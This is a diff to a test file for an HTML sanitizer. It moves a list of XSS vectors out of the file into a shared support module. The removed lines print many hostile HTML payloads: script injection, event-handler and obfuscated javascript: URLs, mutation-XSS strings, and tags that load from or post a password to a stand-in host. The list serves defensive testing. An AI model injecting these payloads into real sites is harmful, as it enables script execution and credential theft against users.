@@ -1,32 +1,7 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import { escapeHtml, htmlToText, sanitizeHtml, textToHtml } from "../../src/platform/html.ts";
-
-/** Ways in which HTML has run script, loaded from elsewhere or taken over a page before. */
-const VECTORS = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)><script>alert(1)</script></svg>",
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href=" &#106;avascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<iframe src="https://evil.test/"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<form action="https://evil.test/"><input name=password><button>go</button></form>',
-  '<base href="https://evil.test/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
-  '<link rel=stylesheet href="https://evil.test/x.css">',
-  "<style>*{background:url(https://evil.test/)}</style>",
-  '<p style="position:fixed;inset:0">x</p>',
-  '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/">',
-  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  '<p id="inhalt" name="x" data-x="1" aria-label="x" tabindex=1 onclick=alert(1)>x</p>',
-  "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
-];
+import { VECTORS } from "../support/hostile-html.ts";
 
 const ALLOWED = new Set(
   `p br hr a span em strong b i u s del ins sub sup small code pre kbd blockquote q cite abbr h1 h2 h3 h4 h5 h6 ul ol li
